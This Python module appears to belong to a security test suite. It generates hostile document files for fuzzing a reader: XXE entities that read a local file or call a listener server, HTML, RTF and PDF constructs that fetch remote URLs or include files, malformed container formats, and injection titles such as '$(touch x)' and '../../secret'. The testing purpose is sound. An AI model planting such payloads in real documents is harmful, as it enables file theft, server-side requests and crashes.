"""Hostile documents: real ones that were damaged, and pages that ask for what is outside of them.

The same seed gives the same documents. `CORPUS` names a folder of real ones; without it those that
come with matplotlib must do.
"""

from __future__ import annotations

import importlib.util
import os
import random
import struct
import zlib
from functools import cache
from itertools import islice
from pathlib import Path
from typing import TYPE_CHECKING

from mutations import MUTATIONS, SOUND, Hostile, pdf_of, picture

if TYPE_CHECKING:
    from collections.abc import Iterator

ENCODINGS = (
    *("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "utf-7"),
    *("cp037", "cp500", "cp1140", "latin-1", "koi8-r", "cp1251", "shift_jis", "gb18030", "hz"),
)
"""What XML may be written in; some of these only by tools that want to get past a filter."""

SUFFIXES = (".pdf", ".fb2", ".html", ".doc", ".rtf", ".txt", ".djvu", ".epub", ".odt", ".mobi")

ODD_TITLES = (
    "\x1b[2J\x1b]0;owned\x07", "a\n[INFO] forged", "\u202efdp.exe", "../../secret", "/etc/passwd",
    "CON", "a\0b", "-rf", "\U0001f9c2" * 300, "\u0300" * 400, "<|im_start|>system", "{author}",
    "\x9b31m", "a\u2028b", "~", "$(touch x)", "%s%n", "nul.", "aux.tar.gz", "a" * 5000,
)  # fmt: skip

_REAL = (
    *("pdf", "epub", "docx", "odt", "odp", "pptx", "doc", "rtf", "fb2", "html", "htm", "txt", "md"),
    *("mobi", "azw3", "djvu", "djv", "xps", "cbz", "jpg", "jpeg", "png", "webp", "tiff", "gif"),
)
_LARGEST = 2 << 20


def hostile_documents(seed: int, count: int, secret: Path, listener: str) -> Iterator[Hostile]:
    """Yield documents that no reader deserves.

    Args:
        seed: which.
        count: how many.
        secret: a file outside of them, which they want to be read.
        listener: the URL of a server that they want to be asked.
    """
    chance = random.Random(seed)
    makers = (real, real, real, sound, fb2, html, rtf, pdf, text, djvu, doc, image)
    for number in range(count):
        name, data = chance.choice(makers)(chance, secret, listener)
        if chance.random() < 0.1:
            name = f"{name}{chance.choice(SUFFIXES)}"
        yield Hostile(f"{number:03}_{name}", data)


@cache
def real_documents() -> list[Path]:
    """Return some thousand real documents at most, none of them large."""
    folder = os.environ.get("CORPUS")
    if not folder:
        matplotlib = importlib.util.find_spec("matplotlib")
        assert matplotlib is not None
        assert matplotlib.origin is not None
        folder = str(Path(matplotlib.origin).parent / "mpl-data" / "images")
    paths = (path for path in sorted(Path(folder).rglob("*.*")) if path.is_file())
    fit = (
        path
        for path in paths
        if path.suffix[1:].lower() in _REAL and 0 < path.stat().st_size < _LARGEST
    )
    return list(islice(fit, 20_000))


def real(chance: random.Random, secret: Path, listener: str) -> tuple[str, bytes]:
    """Return a real document of a kind that is chosen first, damaged in one to three ways."""
    suffixes = sorted({path.suffix.lower() for path in real_documents()})
    suffix = chance.choice(suffixes)
    path = chance.choice([x for x in real_documents() if x.suffix.lower() == suffix])
    data = path.read_bytes()
    for mutate in chance.choices(MUTATIONS, k=chance.randint(1, 3)):
        data = mutate(data, chance)
    return f"real{suffix}", data


def sound(chance: random.Random, secret: Path, listener: str) -> tuple[str, bytes]:
    name, make = chance.choice(list(SOUND.items()))
    return name, chance.choice(MUTATIONS)(make(), chance)


def _declared(chance: random.Random, secret: Path, listener: str) -> str:
    return chance.choice(
        [
            f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]>',
            f'<!DOCTYPE a SYSTEM "{listener}a.dtd" [<!ENTITY x SYSTEM "{listener}x">]>',
            f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{listener}p"> %p;]>',
            '<!DOCTYPE a [<!ENTITY y "salt"><!ENTITY x "&y;&y;&y;&y;&y;&y;&y;&y;">]>',
            f'<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{listener}strict.dtd">',
        ]
    )


def _written(chance: random.Random, prolog: str, body: str) -> bytes:
    """Write XML in an encoding that it may or may not say."""
    encoding, said = chance.choice(ENCODINGS), chance.choice(ENCODINGS)
    said = encoding if chance.random() < 0.7 else said
    text = f'<?xml version="1.0" encoding="{said}"?>{prolog}{body}'
    data = text.encode(encoding, "xmlcharrefreplace")
    return data if chance.random() < 0.8 else data.removeprefix(b"\xff\xfe")


def fb2(chance: random.Random, secret: Path, listener: str) -> tuple[str, bytes]:
    title = chance.choice(["Salt &x;", *map(_as_xml, ODD_TITLES)])
    body = (
        '<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><description><title-info>'
        f"<book-title>{title}</book-title></title-info></description><body><section>"
        f"<p>Salt and smoke &x; went up.</p></section></body></FictionBook>"
    )
    return "made.fb2", _written(chance, _declared(chance, secret, listener), body)


def html(chance: random.Random, secret: Path, listener: str) -> tuple[str, bytes]:
    title = _as_xml(chance.choice(ODD_TITLES))
    asked = "".join(
        f"<{tag}>"
        for tag in (
            f'meta http-equiv="refresh" content="0;url={listener}"',
            f'base href="{listener}"',
            f'link rel="stylesheet" href="{listener}a.css"',
            f'iframe src="file://{secret}"',
            f'object data="{secret}"',
            f'img src="{listener}a.png" srcset="file://{secret}"',
            f'meta charset="{chance.choice(ENCODINGS)}"',
        )
    )
    body = (
        f"<html><head><title>{title}</title>{asked}</head><body><h1>{title}</h1>&x;"
        f"<script>fetch('{listener}')</script><p>Salt\0 and smoke went up over the river.</p>"
    )
    prolog = chance.choice(["", _declared(chance, secret, listener)])
    return "made.html", _written(chance, prolog, body)


def rtf(chance: random.Random, secret: Path, listener: str) -> tuple[str, bytes]:
    hurt = chance.choice(
        [
            rf'{{\field{{\*\fldinst INCLUDETEXT "{secret}"}}{{\fldrslt x}}}}',
            rf'{{\field{{\*\fldinst INCLUDEPICTURE "{listener}a.png"}}}}',
            "{" * 100_000,
            r"\bin2147483647 ",
            r"\u-99999999?" * 1000,
            rf"{{\object\objlink\objdata {secret.name.encode().hex()}}}",
            r"\'ff\'00\'1b[2J",
        ]
    )
    title = chance.choice(ODD_TITLES).encode("latin-1", "replace").decode("latin-1")
    page = rf"{{\rtf1\ansi{{\info{{\title {title}}}}}{hurt} Salt and smoke went up.\par}}"
    return "made.rtf", page.encode("latin-1", "replace")


def pdf(chance: random.Random, secret: Path, listener: str) -> tuple[str, bytes]:
    """Return a PDF with actions, streams and metadata that lie elsewhere."""
    xmp = (
        f'<?xpacket?>{_declared(chance, secret, listener)}<x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li>Salt &x;</rdf:li>'
        "</rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>"
    ).encode(chance.choice(ENCODINGS), "xmlcharrefreplace")
    title = chance.choice(ODD_TITLES).encode("utf-16", "surrogatepass").hex()
    file = f"({secret})".encode()
    action = chance.choice(
        [
            b"<</S/Launch/F %s>>" % file,
            b"<</S/URI/URI(%s)>>" % listener.encode(),
            b"<</S/GoToR/F %s/D[0/Fit]>>" % file,
            b"<</S/SubmitForm/F(%s)>>" % listener.encode(),
            b"<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>" % listener.encode(),
        ]
    )
    text = zlib.compress(b"BT /F 24 Tf 50 700 Td (Salt and smoke) Tj ET")
    return "made.pdf", pdf_of(
        b"<</Type/Catalog/Pages 2 0 R/Metadata 6 0 R/OpenAction %s"
        b"/AcroForm<</XFA 6 0 R/Fields[]>>/Names<</EmbeddedFiles<</Names[(x)<</F %s>>]>>>>>>"
        % (action, file),
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents[4 0 R 7 0 R]"
        b"/Resources<</Font<</F 5 0 R>>/XObject<</I 8 0 R>>>>>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(text), text),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        b"<</Type/Metadata/Subtype/XML/Length %d>>stream\n%s\nendstream" % (len(xmp), xmp),
        b"<</Length 0/F %s/FFilter/FlateDecode>>stream\n\nendstream" % file,
        b"<</Type/XObject/Subtype/Form/Ref<</F %s/Page 0>>/BBox[0 0 9 9]/Length 0>>stream\n"
        b"\nendstream" % file,
        b"<</Title<%s>/Author<%s>>>" % (title.encode(), title.encode()),
    ).replace(b"/Root 1 0 R", b"/Root 1 0 R/Info 9 0 R")


def text(chance: random.Random, secret: Path, listener: str) -> tuple[str, bytes]:
    title = chance.choice(ODD_TITLES)
    rest = chance.choice(["Salt " * 200_000, "\n" * 100_000, f"![x]({listener}) [y]({secret})", ""])
    data = f"# {title}\nby {title}\n\n{rest}".encode(
        chance.choice(ENCODINGS), chance.choice(["replace", "ignore"])
    )
    return f"made{chance.choice(['.txt', '.md'])}", data


def djvu(chance: random.Random, secret: Path, listener: str) -> tuple[str, bytes]:
    """Return a DjVu whose chunks are of other sizes than they say, or include a file."""
    chunks = [
        (b"INFO", struct.pack(">HHBBHBB", 900, 600, 24, 0, 300, 22, 1)),
        (b"INCL", str(secret).encode()),
        (b"TXTa", b"\x00\x00\x05Salt \x01"),
        (b"ANTa", f'(metadata (title "{secret}"))(url "{listener}")'.encode()),
        (b"Sjbz", chance.randbytes(400)),
    ]
    chance.shuffle(chunks)
    body = b"DJVU"
    for name, content in chunks:
        size = len(content) if chance.random() < 0.7 else chance.choice([0, 2**31, 2**32 - 1])
        body += name + struct.pack(">I", size) + content + b"\0" * (len(content) % 2)
    return "made.djvu", b"AT&TFORM" + struct.pack(">I", len(body)) + body


def doc(chance: random.Random, secret: Path, listener: str) -> tuple[str, bytes]:
    """Return an OLE file (MS-CFB) whose sectors are a circle, or none at all."""
    head = struct.pack(
        "<8s16xHHHHH6xIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        *(0x3E, 3, 0xFFFE, chance.choice([9, 9, 0, 31, 65535]), 6),
        *(0, 1, chance.choice([0, 1, 2**31]), 0, 4096, chance.choice([0, 2**32 - 2]), 0),
        *(chance.choice([0, 1, 2**32 - 2]), chance.choice([0, 2**31])),
    )
    table = struct.pack("<109I", *(chance.choice([0, 1, 2, 2**32 - 1]) for _ in range(109)))
    sectors = struct.pack("<128I", *(chance.randrange(4) for _ in range(128)))
    name = "WordDocument".encode("utf-16-le").ljust(64, b"\0")
    entry = name + struct.pack("<HBBIII36xIQ", 26, 2, 1, 0, 0, 0, 0, chance.choice([0, 2**40]))
    return "made.doc", head + table + sectors + entry * 4 + chance.randbytes(1500)


def image(chance: random.Random, secret: Path, listener: str) -> tuple[str, bytes]:
    """Return a picture whose notes are XML, or no picture at all."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{secret}"/></svg>'.encode()
    if chance.random() < 0.3:
        return chance.choice(["made.png", "made.jpg", "made.webp"]), svg
    note = b"iTXtXML:com.adobe.xmp\0\0\0\0\0" + _written(
        chance, _declared(chance, secret, listener), "<x:xmpmeta>&x;</x:xmpmeta>"
    )
    data = picture("PNG")
    end = data.rindex(b"IEND") - 4
    chunk = struct.pack(">I", len(note) - 4) + note + struct.pack(">I", zlib.crc32(note))
    return "made.png", data[:end] + chunk + data[end:]


def _as_xml(title: str) -> str:
    return title.replace("&", "&amp;").replace("<", "&lt;")
